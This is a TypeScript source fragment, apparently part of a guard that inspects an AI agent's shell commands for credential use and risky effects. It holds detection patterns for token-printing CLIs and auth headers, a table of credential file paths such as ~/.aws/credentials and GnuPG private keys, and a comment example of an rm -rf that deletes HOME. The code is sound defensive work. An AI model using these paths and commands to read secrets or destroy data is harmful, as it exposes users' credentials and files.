  // not read here, so not the project's.)
  if (argv.slice(1).some((a) => /^--t|^-[^-]*t/.test(a))) return false;
  const operands = argv.slice(1).filter((a) => !a.startsWith('-'));
  const sources = operands.slice(0, -1).map((a) => posix.resolve(cwd, a.replace(/^~(?=\/|$)/, st.ctx.home)));
  return sources.length > 0 && sources.every((p) => p.startsWith(`${st.ctx.projectRoot}/`) && !/[*?[$`]/.test(p) && !st.written.has(p));
}

/** A declaration's word NAME=value whose name starts with an expansion ("$k=$v", "${p}_HOME=…"). */
function computedName(w: Word): boolean {
  const parts = w.parts.filter((p) => p.kind !== 'literal' || p.text !== '');
  return parts[0] !== undefined && parts[0].kind !== 'literal' && parts.some((p) => p.kind === 'literal' && /^[\w\]]*\+?=/.test(p.text));
}

/** CLIs printing a token for their own service: gh auth token, gcloud auth print-access-token, az account get-access-token. */
const TOKEN_PRINTERS = String.raw`(\S*\/)?(gh auth token|gcloud auth (application-default )?print-(access|identity)-token|az account get-access-token|glab auth token|doctl auth token)\b`;
const TOKEN_PRINTER = new RegExp(`^${TOKEN_PRINTERS}`);

/** A word that uses a credential to authenticate (a header, -u USER:TOKEN, --token=…, a URL's user part), given the word before it. */
function authUse(prev: string | undefined, raw: string): boolean {
  // (A header authenticates when it is named for it: Authorization, X-Api-Key, Private-Token, Cookie …; X: $TOKEN only carries it.)
  const header = (h: string) => {
    const name = /^\s*([\w-]+)\s*:/.exec(h)?.[1];
    return name === undefined || name.toLowerCase().split(/[-_]/).some((t) => /^(authorization|auth|authentication|token|apikey|api|key|session|cookie|secret|password|passwd|credential|credentials|signature|bearer|jwt|access|pat)$/.test(t));
  };
  if (prev !== undefined && /^(-[sSfLkiIvgGqN]*H|--header)$/.test(prev)) return header(raw.replace(/^["']/, ''));
  if (/^["']?(-[sSfLkiIvgGqN]*H|--header=)/.test(raw)) return header(raw.replace(/^["']?(-[sSfLkiIvgGqN]*H|--header=)["']?/, ''));
  // (curl's flags cluster before the header option: -sH, -fsSLu.)
  if (prev === '-c' && /^["']?[\w.-]*(extraheader|token|password|auth|credential)[\w.-]*=/i.test(raw)) return true;
  if (prev !== undefined && /^(-[sSfLkiIvgGqN]*[Hu]|--header|--user|--proxy-user|--oauth2-bearer|--password|--http-password|--proxy-password|--[\w-]*(token|password|passwd|secret|api-key|auth)[\w-]*)$/i.test(prev)) return true;
  return /^["']?(-[sSfLkiIvgGqN]*H|--header=|--user=|--oauth2-bearer=|--[\w-]*(token|password|passwd|secret|api-key|auth)[\w-]*=)/i.test(raw) || /:\/\/[^/\s@]*\$[^/\s@]*@/.test(raw);
}

/** Each `for NAME in WORDS` loop of a script, at any depth: its variable and its words (undefined: "$@"). */
// (The tree shares nodes — a substitution is a part of its word and in the word's list of substitutions — so each node is
// visited once: walked by every path, `$(echo $(echo …))` nested 24 deep took minutes.)
function loopBindings(script: unknown): [string, Word[] | undefined][] {
  const out: [string, Word[] | undefined][] = [];
  const seen = new WeakSet<object>();
  const walk = (node: unknown): void => {
    if (node && typeof node === 'object' && !seen.has(node)) seen.add(node);
    else return;
    if (Array.isArray(node)) node.forEach(walk);
    else {
      const n = node as { kind?: string; variable?: unknown; items?: Word[] };
      if (n.kind === 'for' && typeof n.variable === 'string') out.push([n.variable, n.items]);
      for (const v of Object.values(node)) if (v && typeof v === 'object') walk(v);
    }
  };
  walk(script);
  return out;
}

/** The functions a script defines, at any depth → the text of each body. */
function functionBodies(script: unknown, line: string): Map<string, string> {
  const out = new Map<string, string>();
  const seen = new WeakSet<object>();
  const walk = (node: unknown): void => {
    if (node && typeof node === 'object' && !seen.has(node)) seen.add(node);
    else return;
    if (Array.isArray(node)) node.forEach(walk);
    else {
      const n = node as { kind?: string; name?: string; body?: { start?: number; end?: number } };
      if (n.kind === 'function' && typeof n.name === 'string' && typeof n.body?.start === 'number' && typeof n.body.end === 'number' && n.body.end > n.body.start) out.set(n.name, line.slice(n.body.start, n.body.end));
      for (const v of Object.values(node)) if (v && typeof v === 'object') walk(v);
    }
  };
  walk(script);
  return out;
}

// Where a tool keeps its credentials when the variable that names the place is not set.
const CREDENTIAL_VARS: Record<string, string> = {
  AWS_SHARED_CREDENTIALS_FILE: '~/.aws/credentials', AWS_CONFIG_FILE: '~/.aws/config', KUBECONFIG: '~/.kube/config',
  DOCKER_CONFIG: '~/.docker/config.json', GOOGLE_APPLICATION_CREDENTIALS: '~/.config/gcloud/application_default_credentials.json',
  CLOUDSDK_CONFIG: '~/.config/gcloud', NETRC: '~/.netrc', NPM_CONFIG_USERCONFIG: '~/.npmrc', npm_config_userconfig: '~/.npmrc',
  GNUPGHOME: '~/.gnupg/private-keys-v1.d', PASSWORD_STORE_DIR: '~/.password-store', VAULT_CONFIG_PATH: '~/.vault-token',
};

/** The repository reader for a command the line moved to `cwd` (cd /tmp/other && git push): the session's own where the
 *  line stays in the project, the session's directory or a worktree of the project the line adds, else the reader of that
 *  directory — none when the reader cannot open another (then its remotes are unknown, as they are for git -C DIR).
 *  Another repository's origin is not the project's: its URL is whatever that directory's configuration says, possibly
 *  written by an earlier tool call. */
function gitAt(ctx: Context, cwd: string, worktrees: ReadonlySet<string>): Context['git'] {
  return movedOut(ctx, cwd, worktrees) ? ctx.git?.at?.(cwd) : ctx.git;
}

// git worktree add's options that take a value (the path is its first operand).
const WORKTREE_VALUED = /^(-b|-B|--reason|--orphan)$/;
/** git clone's options that take the next word as their value. */
const CLONE_VALUED = /^(-b|--branch|-o|--origin|-c|--config|-u|--upload-pack|-j|--jobs|--depth|--reference|--reference-if-able|--template|--filter|--shallow-since|--shallow-exclude|--server-option|--bundle-uri|--revision)$/;

/** Whether `cwd`, where the line moved a command, is outside the project, the session's directory and any worktree of the
 *  project the line added (git worktree add -b fix /tmp/app-fix … && cd /tmp/app-fix: the same repository, with the
 *  project's remotes — read from the command itself, not from text that only mentions one). */
function movedOut(ctx: Context, cwd: string, worktrees: ReadonlySet<string>): boolean {
  const within = (root: string | undefined) => root !== undefined && (cwd === root || cwd.startsWith(`${root}/`));
  if (cwd === UNKNOWN_CWD || within(ctx.projectRoot) || within(ctx.cwd)) return false;
  for (const w of worktrees) if (within(w)) return false;
  return true;
}

/** Names a child shell started later may not get as the line's running variables say (State.exportUnsure): what this
 *  command assigns, declares or unsets where the line may not run it, or runs it in a subshell or a function's body
 *  (export D=/home/user; (D=dist); bash -c 'rm -rf "$D"' removes HOME); `local` and a declaration judged in a function's
 *  body last only while it runs; a nameref's target is set through another name; eval and source may set any name. */
function exportScope(st: State, fc: FlatCommand, argv0: string[]): void {
  const argv = /^(builtin|command)$/.test(argv0[0] ?? '') ? argv0.slice(1) : argv0;
  const name = argv[0] ?? '';
  const declaring = /^(export|declare|typeset|local|readonly|unset|read|mapfile|readarray|getopts|printf)$/.test(name);
  const declared = declaring ? argv.slice(1).flatMap((a) => /^([A-Za-z_]\w*)(?:=([A-Za-z_]\w*)?|$)/.exec(a)?.slice(1).filter((n): n is string => n !== undefined) ?? []) : [];
  const names = [...fc.assignments.filter((a) => a.scope !== 'prefix').map((a) => a.name), ...declared];
  const scoped = fc.conditional || fc.subshell || fc.background || fc.inFunction !== null || fc.depth > 0 || name === 'local' || (st.depth > 0 && /^(declare|typeset)$/.test(name));
  if (scoped || (declaring && argv.some((a) => /^-[a-zA-Z]*n/.test(a)) && name !== 'export' && name !== 'unset')) for (const n of names) st.exportUnsure.add(n);
  if (/^(eval|source|\.)$/.test(name)) st.exportUnsure.add('*');
  // (unset takes the export away too: NAME=v after it is the shell's own.)
  if (name === 'unset' && !argv.includes('-f')) for (const n of declared) st.exported.delete(n);
}
